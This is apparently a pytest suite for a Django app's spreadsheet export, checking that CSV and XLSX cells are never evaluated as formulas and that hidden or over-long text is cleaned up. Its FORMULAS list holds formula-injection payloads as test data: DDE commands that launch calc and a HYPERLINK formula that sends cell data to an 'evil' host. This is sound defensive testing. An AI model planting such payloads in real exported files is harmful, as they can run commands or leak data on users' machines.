"""Exported cells: never a formula, always readable, and the original again when the file is read back."""

import csv
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from uuid import UUID

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy
from python_calamine import CalamineWorkbook

from onepoint.core.spreadsheets import as_written, harmless, writer_for

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?x="&A1,"Click")', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "　=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=", "+", "-", "@", "+86-571-88888888", "-1-1", "+1|2", "-=1",
]  # fmt: skip
READABLE = [
    "+8613800138000",
    "+86 571 88888888",
    "-12.5",
    "-3",
    "+7",
    "-15%",
    "13800138000",
    "王小明",
    "",
    "1=1",
    "a@b.cn",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_might_be_calculated_is_written_as_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert as_written(harmless(text)) == text


@pytest.mark.parametrize("text", READABLE)
def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
    assert as_written(text) == text


def test_an_apostrophe_people_wrote_stays() -> None:
    assert as_written("'n Beetje") == "'n Beetje"


ROW = ["TS1", "=1+1", 42, Decimal("1.50"), datetime(2026, 11, 22, 1, 30, tzinfo=UTC), date(2026, 1, 2), None, True]


def written(tmp_path: Path, file_format: str, rows: list[list]) -> Path:
    path = tmp_path / f"list.{file_format}"
    writer = writer_for(file_format, path, ["编号", "=标题"], title="工单/列表[1]")
    for row in rows:
        writer.write(row)
    writer.close()
    return path


def test_csv_opens_in_excel_and_reads_back(tmp_path: Path) -> None:
    path = written(tmp_path, "csv", [ROW])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        head, row = csv.reader(file)
    assert head == ["编号", "'=标题"]
    assert row == ["TS1", "'=1+1", "42", "1.50", "2026-11-22 09:30:00", "2026-01-02", "", "True"]


def test_xlsx_holds_texts_numbers_and_moments_and_no_formula(tmp_path: Path) -> None:
    texts = [*FORMULAS, *READABLE, "<&>\"' 换行\n第二行", "控制\x00\x07符"]
    path = written(tmp_path, "xlsx", [ROW, *[[text] for text in texts]])
    workbook = CalamineWorkbook.from_path(str(path))
    (name,) = workbook.sheet_names
    rows = workbook.get_sheet_by_name(name).to_python()
    assert rows[0][:2] == ["编号", "=标题"]
    assert rows[1][:4] == ["TS1", "=1+1", 42, 1.5]
    assert rows[1][4] == datetime(2026, 11, 22, 9, 30)
    assert rows[1][5] == date(2026, 1, 2)
    for text, row in zip(texts[:-1], rows[2:], strict=False):
        assert str(row[0]).replace("\r", "") == text.replace("\r", "").replace("\x00", ""), repr(text)
    assert rows[-1][0] == "控制符"


def test_a_hundred_thousand_cells_take_little_memory(tmp_path: Path) -> None:
    """The file grows on disk, not in memory: what is held is a few hundred rows."""
    writer = writer_for("xlsx", tmp_path / "x.xlsx", ["a"])
    for number in range(10_000):
        writer.write([f"行{number}"] * 10)
    assert len(writer._rows) <= 200  # type: ignore[attr-defined]
    writer.close()


@pytest.mark.parametrize("hidden", ["\x00", "\x1b", "\x7f", "\x85", "\u202e", "\u2066", "\ud800", "\uffff"])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_what_nobody_sees_is_left_out(tmp_path: Path, file_format: str, hidden: str) -> None:
    assert cells_of(written(tmp_path, file_format, [[f"账{hidden}单"]]))[1] == "账单"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("text", ["=" + "字" * 40_000, "😀" * 16_384, "a" * 32_767])
def test_what_no_cell_holds_is_cut_and_says_so(tmp_path: Path, file_format: str, text: str) -> None:
    with translation.override("en"):
        cell = cells_of(written(tmp_path, file_format, [[text]]))[1]
    assert len(cell.encode("utf-16-le")) // 2 <= 32_767
    assert cell.endswith("… [cut: a cell holds no more]")
    assert text.startswith(as_written(cell)[:16_000])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_what_a_cell_just_holds_is_whole(tmp_path: Path, file_format: str) -> None:
    for text in ("字" * 32_766, "😀" * 16_383):
        assert cells_of(written(tmp_path, file_format, [[text]]))[1] == text


def test_what_is_no_text_and_no_number_is_a_text(tmp_path: Path) -> None:
    """Lazy words, lists, addresses: never markup of the sheet, never a formula."""
    values = [gettext_lazy("=1+1"), ["=1<b>"], UUID(int=7), Decimal("NaN"), float("inf"), date(1, 1, 1), "_x003D_1"]
    shown = ["=1+1", "['=1<b>']", str(UUID(int=7)), "NaN", "inf", "0001-01-01", "_x003D_1"]
    path = written(tmp_path, "xlsx", [[value] for value in values])
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert cells_of(path)[1:] == shown
    assert "_x005F_x003D_1" in sheet  # else a spreadsheet reads "=1"
    cells = cells_of(written(tmp_path, "csv", [[value] for value in values]))
    assert [as_written(cell) for cell in cells[1:]][:3] == shown[:3]


def cells_of(path: Path) -> list[str]:
    """The first column of a file."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return [row[0] for row in csv.reader(file, strict=True)]
    return [row[0] for row in CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()]
